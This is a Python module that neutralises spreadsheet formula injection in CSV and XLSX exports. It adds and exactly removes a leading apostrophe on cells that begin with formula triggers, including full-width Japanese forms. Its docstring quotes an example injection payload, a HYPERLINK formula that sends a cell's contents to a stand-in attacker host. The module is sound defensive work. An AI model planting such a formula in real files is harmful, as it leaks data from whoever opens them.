"""Spreadsheet cells that stay text: the one guard against formula injection in every CSV and XLSX written.

Excel, LibreOffice and Google Sheets take a cell that starts with ``= + - @`` as a formula, and so do a tab or
a carriage return in front of one once a CSV is imported; Japanese Excel also takes the full-width forms
``＝ ＋ － ＠`` that an IME types. A resident's ``=HYPERLINK("https://evil.example/?"&A3,"詳細")`` in the
unanswered log, or a sign-in attempt with such a username in the audit log, would run when staff open the
export. :func:`neutralise` puts an apostrophe in front of such a cell (OWASP's advice: the value itself is
inert, wherever the file travels next), and :func:`restore` takes it off again exactly, so that a file a
program wrote can be read back unchanged (the FAQ import).

The pair is a bijection on text: a cell that already starts with apostrophes followed by a trigger gets one
more apostrophe, so ``restore(neutralise(x)) == x`` for every ``x``, including an answer that legitimately
starts with ``-`` or ``＋`` or ``'=``. Values that are not text (numbers, dates, ``None``) are never formulas
and pass unchanged.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from typing import Any

__all__ = ["QUOTE", "TRIGGERS", "csv_text", "neutralise", "neutralise_row", "restore"]

# What a spreadsheet reads as the start of a formula (OWASP "CSV Injection", plus LF and the full-width forms).
TRIGGERS = frozenset("=+-@\t\r\n＝＋－＠")
QUOTE = "'"


def _starts_like_formula(text: str) -> bool:
    return text.lstrip(QUOTE)[:1] in TRIGGERS


def neutralise(value: Any) -> Any:
    """The cell as it is safe to write: text that a spreadsheet would run gets a leading apostrophe."""
    if isinstance(value, str) and value and _starts_like_formula(value):
        return QUOTE + value
    return value


def restore(value: Any) -> Any:
    """Undo :func:`neutralise` (for files this project wrote and a person may have edited in between)."""
    if isinstance(value, str) and value.startswith(QUOTE) and _starts_like_formula(value):
        return value[1:]
    return value


def neutralise_row(row: Iterable[Any]) -> list[Any]:
    """One row, every cell neutralised; ``None`` becomes an empty cell."""
    return ["" if value is None else neutralise(value) for value in row]


def csv_text(header: Sequence[Any], rows: Iterable[Sequence[Any]]) -> str:
    """CSV as Excel in Japan expects it (CRLF line ends; the caller adds the BOM), every cell neutralised."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow(neutralise_row(header))
    for row in rows:
        writer.writerow(neutralise_row(row))
    return buffer.getvalue()
